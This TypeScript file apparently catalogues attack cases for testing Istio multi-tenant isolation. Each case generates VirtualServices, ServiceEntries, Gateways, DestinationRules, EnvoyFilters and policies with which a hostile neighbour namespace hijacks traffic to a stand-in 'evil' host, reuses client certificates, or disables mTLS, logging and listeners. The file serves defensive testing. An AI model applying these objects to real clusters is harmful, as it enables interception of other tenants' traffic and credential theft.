/*
 * What others write beside an app that they do not own, each as a function of whom it is aimed at. They may write whatever Istio objects
 * they like in a namespace of their own, and one of them may do so in a locked one.
 */

/** Whom an attack is aimed at: a host of ours, and how it is led. */
export interface Victim {
  readonly subject: string;
  readonly speaks: 'tcp' | 'tls' | 'http';
  readonly clients: readonly string[];

  /** What the application dials, and what was declared: the same, or a wildcard. */
  readonly host: string;
  readonly declared: string;
  readonly port: number;

  /** Of TCP hosts. */
  readonly address?: string;

  /** The ServiceEntry by which its clients know it. */
  readonly entry: { readonly name: string; readonly namespace: string };

  /** Address of its server. */
  readonly server: string;

  /** The Secret whose client certificate the gateway shows to it. */
  readonly secret?: string;

  /** Other names by which sidecars know it. */
  readonly aliases: readonly string[];
  readonly door?: Door;
}

/** A Gateway of ours, with the host of its server and how that is secured. */
export interface Door {
  readonly gateway: Gateway;
  readonly name: string;
  readonly host: string;
  readonly port: number;
  readonly hop: string;
  readonly readsHttp: boolean;
  readonly ownName: string;
}

/** A gateway that our routes go by. */
export interface Gateway {
  readonly namespace: string;
  readonly service: string;
  readonly labels: { readonly [key: string]: string };
}

/** What somebody writes, whom it is aimed at, and by which calls they try to get out. */
export interface Part { readonly subject?: string; readonly objects: readonly object[]; readonly calls?: readonly object[] }

export interface Attack {
  readonly title: string;
  readonly parts: (victims: readonly Victim[], gateways: readonly Gateway[]) => Part[];
}

export const NEIGHBOUR = 'mallory';
export const LOCKED = 'bookinfo';

/** Where thefts lead: a Service of the neighbour. */
export const EVIL = { service: 'evil', host: `evil.${NEIGHBOUR}.svc.cluster.local`, address: '203.0.113.66', ports: { tcp: 7000, tls: 443, http: 80 } };

/* ---- objects ---- */

type Fields = { readonly [name: string]: unknown };

const object = (kind: string, name: string, spec: Fields, namespace = NEIGHBOUR, group = 'networking.istio.io/v1') =>
  ({ apiVersion: group, kind, metadata: { name, namespace }, spec });
const GATEWAY_API = 'gateway.networking.k8s.io/v1';
const security = (kind: string, name: string, spec: Fields) => object(kind, name, spec, NEIGHBOUR, 'security.istio.io/v1');
const EVERYBODY = { exportTo: ['*'] };

let count = 0;
/** A name that no other object has. */
const named = (what: string) => `${what}-${count++}`;

const to = (speaks: Victim['speaks']) => ({ destination: { host: EVIL.host, port: { number: EVIL.ports[speaks] } } });

/** A VirtualService that leads what a proxy reads of these hosts, whatever it is, to the neighbour. */
function theft(hosts: readonly string[], speaks: Victim['speaks'], port: number, more: Fields = {}, match: Fields = {}): object {
  const routes = {
    tcp: { tcp: [{ match: [{ port, ...match }], route: [to('tcp')] }] },
    tls: { tls: [{ match: [{ port, sniHosts: hosts, ...match }], route: [to('tls')] }] },
    http: { http: [{ match: [{ uri: { regex: '/.*' } }], route: [to('http')] }] },
  };
  return object('VirtualService', named('theft'), { hosts, ...EVERYBODY, ...routes[speaks], ...more });
}

/** The same of a door. */
const throughDoor = (gateway: string, { host, port, hop, readsHttp }: Door, hosts = [host], more: Fields = {}) =>
  theft(hosts, readsHttp ? 'http' : hop === 'passthrough' ? 'tls' : 'tcp', port, { gateways: [gateway], ...more });

function server({ host, port, hop, readsHttp }: Door, hosts: readonly string[] = [`${NEIGHBOUR}/${host}`]): Fields {
  const name = named('server');
  if (hop === 'plaintext') return { port: { number: port, name, protocol: 'TCP' }, hosts };
  return { port: { number: port, name, protocol: readsHttp ? 'HTTPS' : 'TLS' }, hosts, tls: { mode: hop === 'passthrough' ? 'PASSTHROUGH' : 'ISTIO_MUTUAL' } };
}

const door = (gateway: Gateway, servers: readonly Fields[], namespace = NEIGHBOUR) =>
  object('Gateway', named('door'), { selector: gateway.labels, servers }, namespace);
const nameOf = (one: ReturnType<typeof object>) => `${one.metadata.namespace}/${one.metadata.name}`;

const PROTOCOLS = { tcp: 'TCP', tls: 'TLS', http: 'HTTP' };

/** A ServiceEntry that claims hosts and says that the neighbour's server is theirs. */
function claim(hosts: readonly string[], speaks: Victim['speaks'], port: number, more: Fields = {}): object {
  return object('ServiceEntry', named('claim'), {
    hosts,
    ...EVERYBODY,
    location: 'MESH_EXTERNAL',
    resolution: 'STATIC',
    endpoints: [{ address: EVIL.address, ports: { all: EVIL.ports[speaks] } }],
    ports: [{ number: port, name: 'all', protocol: PROTOCOLS[speaks] }],
    ...more,
  });
}

/** A Service whose endpoint is anybody's. */
function serviceOf(
  name: string, clusterIP: string, address: string, port: { name: string; port: number }, target = port.port, namespace = NEIGHBOUR,
) {
  const metadata = { name, namespace };
  return [
    {
      apiVersion: 'v1',
      kind: 'Service',
      metadata,
      spec: { clusterIP, clusterIPs: [clusterIP], ports: [{ ...port, targetPort: target, protocol: 'TCP' }] },
    },
    {
      apiVersion: 'discovery.k8s.io/v1',
      kind: 'EndpointSlice',
      metadata: { ...metadata, labels: { 'kubernetes.io/service-name': name } },
      addressType: 'IPv4',
      endpoints: [{ addresses: [address], conditions: { ready: true } }],
      ports: [{ name: port.name, port: target, protocol: 'TCP' }],
    },
  ];
}

const rule = (host: string, tls: Fields, more: Fields = {}) =>
  object('DestinationRule', named('rule'), { host, ...EVERYBODY, trafficPolicy: { tls }, ...more });
const CLEAR = { mode: 'DISABLE' };
const OTHERS = { mode: 'SIMPLE', sni: EVIL.host };

/* ---- calls of theirs ---- */

/** A pod that goes around its sidecar and opens mutual TLS to a gateway. */
const entering = (namespace: string, { namespace: of, service }: Gateway, port: number, sni: string, how: Fields = { protocol: 'tcp' }) => ({
  name: named(`a pod of ${namespace} at ${of}/${service}:${port} as ${sni}`),
  from: { namespace, serviceAccount: 'intruder', sidecar: false },
  to: { host: EVIL.host, port: EVIL.ports.tcp },
  how: { ...how, through: { gateway: `${of}/${service}`, port, security: 'mutual-tls', sni } },
});

/** The same without mutual TLS. */
const speaking = (namespace: string, { namespace: of, service }: Gateway, port: number, how: Fields) => ({
  name: named(`a pod of ${namespace} at ${of}/${service}:${port} in ${how.protocol}`),
  from: { namespace, serviceAccount: 'intruder', sidecar: false },
  to: { host: EVIL.host, port: EVIL.ports.tcp },
  how: { ...how, through: { gateway: `${of}/${service}`, port, security: 'plaintext' } },
});

/** A pod of a neighbour at a door of ours. */
function atDoor({ speaks, host, door: { gateway, port, hop, host: name, readsHttp } }: Guarded, through: Fields = {}): object {
  const how = { protocol: speaks, ...(speaks === 'tls' ? { sni: host } : {}), ...(speaks === 'http' ? { hostHeader: readsHttp ? name : host } : {}) };
  const call = hop === 'mutual-tls' ? entering(NEIGHBOUR, gateway, port, name, how) : speaking(NEIGHBOUR, gateway, port, how);
  return { ...call, how: { ...call.how, through: { ...call.how.through, ...through } } };
}

/* ---- who is aimed at ---- */

type Guarded = Victim & { readonly door: Door };

const each = (victims: readonly Victim[], objects: (victim: Victim) => readonly object[]) =>
  victims.map(victim => ({ subject: victim.subject, objects: objects(victim) })).filter(part => part.objects.length > 0);
const guarded = (victims: readonly Victim[]) => victims.filter((victim): victim is Guarded => victim.door !== undefined);
const atDoors = (victims: readonly Victim[], objects: (door: Door, victim: Victim) => readonly object[]) =>
  each(guarded(victims), victim => objects(victim.door!, victim));
const wildcards = (victims: readonly Victim[]) => victims.filter(({ host, declared }) => host !== declared);
const domainOf = (name: string) => `*.${name.split('.').slice(-2).join('.')}`;
const fqdn = ({ namespace, service }: Gateway) => `${service}.${namespace}.svc.cluster.local`;
const all = (objects: readonly object[], calls: readonly object[] = []): Part[] => [{ objects, calls }];
const everyGateway = (gateways: readonly Gateway[], objects: (gateway: Gateway) => readonly object[]) => all(gateways.flatMap(objects));

const DOOR_PORT = 443;

/** A route that shows a client certificate of ours to its server, which a Service of theirs leads to. */
function showing(victims: readonly Victim[], gateway: Gateway, namespace: string): Part[] {
  const name = `foreign.${NEIGHBOUR}.egress.internal`;
  const one = { gateway, name: '', host: name, port: DOOR_PORT, hop: 'mutual-tls', readsHttp: false, ownName: name };
  return victims.filter(({ secret }) => secret !== undefined).map(({ subject, host, server: address, secret }) => {
    const own = door(gateway, [server(one, [`./${name}`])], namespace);
    const service = serviceOf(named('foreign'), '10.96.201.1', address, { name: 'http', port: 80 }, 443, namespace);
    const [{ metadata }] = service;
    const there = `${metadata.name}.${namespace}.svc.cluster.local`;
    return {
      subject,
      objects: [
        own,
        object('VirtualService', metadata.name, {
          hosts: [name], gateways: [nameOf(own)], tcp: [{ route: [{ destination: { host: there, port: { number: 80 } } }] }],
        }, namespace),
        ...service,
        { ...rule(there, { mode: 'MUTUAL', credentialName: secret, sni: host, subjectAltNames: [host] }), metadata },
      ],
      calls: [entering(NEIGHBOUR, gateway, DOOR_PORT, name, { protocol: 'http', hostHeader: host })],
    };
  });
}

const LEAK = `leak.${LOCKED}.egress.internal`;

export const ATTACKS: { readonly [name: string]: Attack } = {
  /* doors */
  'intruder': {
    title: 'a pod of their own at our door, by the mesh\'s mutual TLS',
    parts: victims => guarded(victims).map(victim => ({ subject: victim.subject, objects: [], calls: [atDoor(victim)] })),
  },
  'other-trust-domain': {
    title: 'the same with a certificate of another trust domain under the same root, which names our client\'s namespace',
    parts: victims => guarded(victims).filter(({ door: { hop } }) => hop === 'mutual-tls').map(victim => ({
      subject: victim.subject,
      objects: [],
      calls: [atDoor(victim, { identity: `spiffe://other.example/ns/${victim.clients[0]}/sa/default` })],
    })),
  },
  'door-route': {
    title: 'VirtualService for our door, with its own name',
    parts: victims => atDoors(victims, (one, { host }) =>
      [throughDoor(`${one.gateway.namespace}/${one.name}`, one), ...(one.hop === 'passthrough' && one.host !== host ? [throughDoor(`${one.gateway.namespace}/${one.name}`, one, [host])] : [])]),
  },
  'door-route-exported': {
    title: 'the same, exported to the gateway\'s namespace by name',
    parts: victims => atDoors(victims, one => [throughDoor(`${one.gateway.namespace}/${one.name}`, one, [one.host], { exportTo: [one.gateway.namespace] })]),
  },
  'door-twin': {
    title: 'Gateway that selects the gateway\'s pods, with our door\'s name for their namespace',
    parts: victims => atDoors(victims, one => [door(one.gateway, [server(one)])]),
  },
  'door-stolen': {
    title: 'the same for every namespace, and a VirtualService for it',
    parts: victims => atDoors(victims, one => {
      const twin = door(one.gateway, [server(one, [`*/${one.host}`])]);
      return [twin, throughDoor(nameOf(twin), one)];
    }),
  },
  'door-without-selector': {
    title: 'the same without a selector',
    parts: victims => atDoors(victims, one => {
      const twin = object('Gateway', named('door'), { servers: [server(one)] });
      return [twin, throughDoor(nameOf(twin), one)];
    }),
  },
  'door-all-names': {
    title: 'Gateway for all names on the doors\' port, and a VirtualService for it',
    parts: (_, gateways) => everyGateway(gateways, gateway => {
      const any = { gateway, name: '', host: '*', port: DOOR_PORT, hop: 'mutual-tls', readsHttp: false, ownName: '' };
      const twin = door(gateway, [server(any, ['*/*'])]);
      return [twin, throughDoor(nameOf(twin), any)];
    }),
  },
  'door-all-names-passthrough': {
    title: 'the same by passthrough',
    parts: (_, gateways) => everyGateway(gateways, gateway => {
      const any = { gateway, name: '', host: '*', port: DOOR_PORT, hop: 'passthrough', readsHttp: false, ownName: '' };
      const twin = door(gateway, [server(any, ['*/*'])]);
      return [twin, throughDoor(nameOf(twin), any)];
    }),
  },
  'door-other-protocol': {
    title: 'Gateway of another protocol on the doors\' port',
    parts: (_, gateways) => everyGateway(gateways, gateway => [door(gateway, [{ port: { number: DOOR_PORT, name: named('server'), protocol: 'HTTP' }, hosts: ['*'] }])]),
  },
  'door-tcp': {
    title: 'Gateway of TCP on the doors\' port, and a VirtualService for it',
    parts: (_, gateways) => everyGateway(gateways, gateway => {
      const any = { gateway, name: '', host: '*', port: DOOR_PORT, hop: 'plaintext', readsHttp: false, ownName: '' };
      const twin = door(gateway, [server(any, ['*'])]);
      return [twin, throughDoor(nameOf(twin), any)];
    }),
  },
  'door-gateway-api': {
    title: 'Gateway of the Kubernetes Gateway API that says that our gateway\'s Service is its own, and a TLSRoute for it',
    parts: victims => atDoors(victims.filter(({ speaks }) => speaks === 'tls'), ({ gateway, port, host }) => {
      const name = named('door');
      return [
        object('Gateway', name, {
          gatewayClassName: 'istio',
          addresses: [{ type: 'Hostname', value: fqdn(gateway) }],
          listeners: [{ name: 'door', port, protocol: 'TLS', hostname: host, tls: { mode: 'Passthrough' } }],
        }, NEIGHBOUR, GATEWAY_API),
        object('TLSRoute', name, { parentRefs: [{ name }], hostnames: [host], rules: [{ backendRefs: [{ name: EVIL.service, port: EVIL.ports.tls }] }] }, NEIGHBOUR, GATEWAY_API),
      ];
    }),
  },
  'door-without-certificate': {
    title: 'Gateway with our door\'s name and a certificate that is not there',
    parts: victims => atDoors(victims, one => one.hop === 'plaintext' ? [] : [door(one.gateway, [{
      port: { number: one.port, name: named('server'), protocol: 'HTTPS' }, hosts: [`${NEIGHBOUR}/${one.host}`], tls: { mode: 'SIMPLE', credentialName: 'none' },
    }])]),
  },
  'door-auto-passthrough': {
    title: 'Gateway that leads to whatever the gateway knows (AUTO_PASSTHROUGH)',
    parts: (_, gateways) => all(
      gateways.flatMap(gateway => [door(gateway, [{ port: { number: DOOR_PORT, name: named('server'), protocol: 'TLS' }, hosts: ['*'], tls: { mode: 'AUTO_PASSTHROUGH' } }])]),
      gateways.flatMap(gateway => [LOCKED, NEIGHBOUR].map(namespace =>
        speaking(namespace, gateway, DOOR_PORT, { protocol: 'tls', sni: `outbound_.${EVIL.ports.tls}_._.${EVIL.host}` }))),
    ),
  },
  'leak': {
    title: 'Gateway and VirtualService of a locked namespace, for a pod that enters by itself',
    parts: (_, gateways) => all(
      gateways.flatMap(gateway => {
        const one = { gateway, name: '', host: LEAK, port: DOOR_PORT, hop: 'mutual-tls', readsHttp: false, ownName: LEAK };
        const own = door(gateway, [server(one, [LEAK])], LOCKED);
        return [own, { ...throughDoor(nameOf(own), one), metadata: { name: named('leak'), namespace: LOCKED } }];
      }),
      gateways.map(gateway => entering(LOCKED, gateway, DOOR_PORT, LEAK)),
    ),
  },
  'leak-in-clear': {
    title: 'the same for HTTP in clear, on a port that no door has',
    parts: (_, [first]) => {
      const own = door(first, [{ port: { number: 80, name: named('server'), protocol: 'HTTP' }, hosts: ['*'] }], LOCKED);
      const route = object('VirtualService', named('leak'), { hosts: ['*'], gateways: [nameOf(own)], http: [{ route: [to('http')] }] }, LOCKED);
      return all([own, route], [speaking(LOCKED, first, 80, { protocol: 'http', hostHeader: EVIL.host })]);
    },
  },
  'foreign-secret': {
    title: 'a route of their own that shows the client certificate of our route',
    parts: (victims, [gateway]) => showing(victims, gateway, NEIGHBOUR),
  },
  'team-secret': {
    title: 'the same, written in the gateway\'s namespace by another team that has routes there',
    parts: (victims, [gateway]) => showing(victims, gateway, gateway.namespace),
  },

  /* clients */
  'mesh-route': {
    title: 'VirtualService of our host for all sidecars',
    parts: victims => each(victims, ({ host, speaks, port }) => [theft([host], speaks, port)]),
  },
  'mesh-route-exported': {
    title: 'the same, exported to our namespaces by name',
    parts: victims => each(victims, ({ host, speaks, port, clients }) => [theft([host], speaks, port, { exportTo: clients })]),
  },
  'mesh-route-wider': {
    title: 'the same of its whole domain',
    parts: victims => each(victims, ({ host, speaks, port }) => [theft([domainOf(host)], speaks, port)]),
  },
  'mesh-route-under': {
    title: 'the same of another name under our wildcard',
    parts: victims => each(wildcards(victims), ({ declared, speaks, port }) => [theft([declared.replace('*', 'other')], speaks, port)]),
  },
  'mesh-route-subnets': {
    title: 'the same of our host, at any address: Envoy looks at that before it looks at the name',
    parts: victims => each(victims.filter(({ speaks }) => speaks !== 'http'), ({ host, speaks, port }) =>
      [theft([host], speaks, port, {}, { destinationSubnets: ['0.0.0.0/1', '128.0.0.0/1'] })]),
  },
  'mesh-route-overlapping': {
    title: 'the same of our host, and of our host together with another: Envoy takes no listener in which two of its choices fit one name',
    parts: victims => each(victims.filter(({ speaks }) => speaks === 'tls'), ({ host, port }) => {
      const hosts = [host, `other.${NEIGHBOUR}.example`];
      const led = (sniHosts: readonly string[]) => ({ match: [{ port, sniHosts }], route: [to('tls')] });
      return [theft(hosts, 'tls', port, { tls: [led(hosts), led([host])] })];
    }),
  },
  'mesh-route-own-name': {
    title: 'VirtualService of the names that we lead to, for all sidecars',
    parts: victims => each(victims, ({ speaks, port, aliases, door: one }) =>
      [...aliases, ...(one ? [one.ownName] : [])].map(name => theft([name], speaks === 'tls' ? 'tcp' : speaks, port))),
  },
  'mesh-route-gateway': {
    title: 'VirtualService of the gateway\'s Service, for all sidecars',
    parts: (_, gateways) => everyGateway(gateways, gateway => [theft([fqdn(gateway)], 'tcp', DOOR_PORT)]),
  },
  'mesh-route-gateway-api': {
    title: 'HTTPRoute or TLSRoute of the Kubernetes Gateway API for our ServiceEntry',
    parts: victims => each(victims.filter(({ speaks }) => speaks !== 'tcp'), ({ speaks, host, entry }) => [object(speaks === 'http' ? 'HTTPRoute' : 'TLSRoute', named('route'), {
      parentRefs: [{ group: 'networking.istio.io', kind: 'ServiceEntry', ...entry }],
      hostnames: [host],
      rules: [{ backendRefs: [{ name: EVIL.service, port: EVIL.ports[speaks] }] }],
    }, NEIGHBOUR, GATEWAY_API)]),
  },
  'entry-exact': {
    title: 'ServiceEntry of one name under our wildcard',
    parts: victims => each(wildcards(victims), ({ host, speaks, port }) => [claim([host], speaks, port)]),
  },
  'entry-exact-exported': {
    title: 'the same, exported to our namespaces by name',
    parts: victims => each(wildcards(victims), ({ host, speaks, port, clients }) => [claim([host], speaks, port, { exportTo: clients })]),
  },
  'entry-same': {
    title: 'ServiceEntry of the host that we declared',
    parts: victims => each(victims, ({ declared, speaks, port, address }) =>
      [claim([declared], speaks, port, address ? { addresses: [address] } : {})]),
  },
  'entry-same-exported': {
    title: 'the same, exported to our namespaces and the gateway\'s by name',
    parts: victims => each(victims, ({ declared, speaks, port, address, clients, door: one }) => [claim([declared], speaks, port, {
      ...(address ? { addresses: [address] } : {}), exportTo: [...clients, ...(one ? [one.gateway.namespace] : [])],
    })]),
  },
  'entry-own-name': {
    title: 'ServiceEntry of the names that we lead to',
    parts: victims => each(victims, ({ speaks, port, aliases, door: one }) =>
      [...aliases, ...(one ? [one.ownName] : [])].map(name => claim([name], speaks, port))),
  },
  'entry-own-name-exported': {
    title: 'the same, exported to our namespaces and the gateway\'s by name',
    parts: victims => each(victims, ({ speaks, port, aliases, door: one, clients }) => [
      ...aliases.map(name => claim([name], speaks, port, { exportTo: clients })),
      ...(one ? [claim([one.ownName], speaks, port, { exportTo: [one.gateway.namespace, ...clients] })] : []),
    ]),
  },
  'entry-gateway': {
    title: 'ServiceEntry of the name of the gateway\'s Service',
    parts: (_, gateways) => everyGateway(gateways, gateway => [claim([fqdn(gateway)], 'tcp', DOOR_PORT)]),
  },
  'entry-same-address': {
    title: 'ServiceEntry of another host with our host\'s address and port',
    parts: victims => each(victims, ({ address, port }) => address ? [claim([`other-${port}.${NEIGHBOUR}.example`], 'tcp', port, { addresses: [address] })] : []),
  },
  'entry-wider-address': {
    title: 'the same with the range around it',
    parts: victims => each(victims, ({ address, port }) => address ? [claim([`range-${port}.${NEIGHBOUR}.example`], 'tcp', port, { addresses: ['203.0.113.0/24'] })] : []),
  },
  'entry-port-tcp': {
    title: 'ServiceEntry of TCP without addresses on our host\'s port',
    parts: victims => each(victims, ({ port }) => [claim([`tcp-${count}.${NEIGHBOUR}.example`], 'tcp', port)]),
  },
  'entry-port-http': {
    title: 'the same of HTTP',
    parts: victims => each(victims, ({ port }) => [claim([`http-${count}.${NEIGHBOUR}.example`], 'http', port)]),
  },
  'service-address': {
    title: 'headless Service whose endpoint is our host\'s address',
    parts: victims => each(victims, ({ address, port }) => address ? serviceOf(named('headless'), 'None', address, { name: 'tcp', port }) : []),
  },
  'service-port': {
    title: 'Service of HTTP on our host\'s port',
    parts: victims => all([...new Set(victims.map(({ port }) => port))].map((port, i) => ({
      apiVersion: 'v1',
      kind: 'Service',
      metadata: { name: `port-${port}`, namespace: NEIGHBOUR },
      spec: { clusterIP: `10.96.200.${i + 1}`, clusterIPs: [`10.96.200.${i + 1}`], ports: [{ name: 'http', port, protocol: 'TCP' }] },
    }))),
  },
  'rule-host': {
    title: 'DestinationRule of our host: no TLS, or TLS to somebody else',
    parts: victims => each(victims, ({ declared }) => [rule(declared, CLEAR), rule(declared, OTHERS)]),
  },
  'rule-own-name': {
    title: 'DestinationRule of the names that we lead to',
    parts: victims => each(victims, ({ aliases, door: one }) =>
      [...aliases, ...(one ? [one.ownName] : [])].map(name => rule(name, CLEAR, { subsets: [{ name: 'secured' }] }))),
  },
  'rule-wide': {
    title: 'DestinationRules of whole domains, ours and the reserved ones',
    parts: victims => all([
      ...[...new Set(victims.map(({ host }) => domainOf(host)))], '*.egress.internal', '*.ns-egress.internal', '*',
    ].map(host => rule(host, CLEAR, { subsets: [{ name: 'secured' }] }))),
  },
  'rule-gateway': {
    title: 'DestinationRule of the gateway\'s Service',
    parts: (_, gateways) => everyGateway(gateways, gateway => [rule(fqdn(gateway), CLEAR)]),
  },

  /* what selects pods */
  'filter': {
    title: 'EnvoyFilters that select our pods and the gateway\'s',
    parts: (_, gateways) => all([undefined, ...gateways].map(gateway => object('EnvoyFilter', named('filter'), {
      ...(gateway ? { workloadSelector: { labels: gateway.labels } } : {}),
      configPatches: [
        { applyTo: 'LISTENER', match: { context: 'ANY' }, patch: { operation: 'REMOVE' } },
        { applyTo: 'CLUSTER', match: { context: 'ANY' }, patch: { operation: 'REMOVE' } },
      ],
    }, NEIGHBOUR, 'networking.istio.io/v1alpha3'))),
  },
  'policies': {
    title: 'AuthorizationPolicies, PeerAuthentications, Telemetries, WasmPlugins that select our pods and the gateway\'s',
    parts: (_, gateways) => all([undefined, ...gateways].flatMap(gateway => {
      const selector = gateway ? { selector: { matchLabels: gateway.labels } } : {};
      return [
        security('AuthorizationPolicy', named('deny'), { ...selector, action: 'DENY', rules: [{}] }),
        security('AuthorizationPolicy', named('allow'), { ...selector, action: 'ALLOW' }),
        security('PeerAuthentication', named('clear'), { ...selector, mtls: { mode: 'DISABLE' } }),
        object('Telemetry', named('silent'), { ...selector, accessLogging: [{ disabled: true }] }, NEIGHBOUR, 'telemetry.istio.io/v1'),
        object('WasmPlugin', named('wasm'), { ...selector, url: 'file:///none.wasm', failStrategy: 'FAIL_CLOSE', type: 'NETWORK' }, NEIGHBOUR, 'extensions.istio.io/v1alpha1'),
      ];
    })),
  },
};
